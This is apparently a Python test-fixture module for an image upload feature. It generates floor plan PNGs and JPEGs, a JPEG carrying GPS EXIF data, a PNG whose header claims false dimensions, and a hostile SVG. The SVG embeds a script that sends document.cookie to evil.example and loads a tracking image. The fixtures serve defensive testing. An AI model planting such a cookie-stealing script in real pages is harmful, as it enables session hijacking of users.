"""Floor plan files made in the tests: real images from Pillow, and hostile ones by hand."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, ImageDraw


def drawing(width: int = 640, height: int = 400, fmt: str = "PNG", **save: object) -> bytes:
    """A small floor plan: an outline, two rooms and a corridor line."""
    image = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle([4, 4, width - 5, height - 5], outline="black", width=3)
    draw.rectangle([20, 20, width // 2, height // 2], outline="black", fill=(220, 230, 250), width=2)
    draw.line([0, height * 3 // 4, width, height * 3 // 4], fill=(90, 90, 90), width=4)
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def with_exif() -> bytes:
    """A JPEG carrying what a phone writes: its make and model, and a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Secret Model 9"  # Model
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)}  # GPSInfo
    return drawing(fmt="JPEG", exif=exif.tobytes(), quality=90)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few dozen bytes whose header claims `width` x `height` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


HOSTILE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    b' viewBox="0 0 100 50">'
    b'<rect data-room="main" x="1" y="1" width="20" height="20"/>'
    b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    b'<image xlink:href="https://evil.example/track.png" width="10" height="10"/>'
    b"</svg>"
)
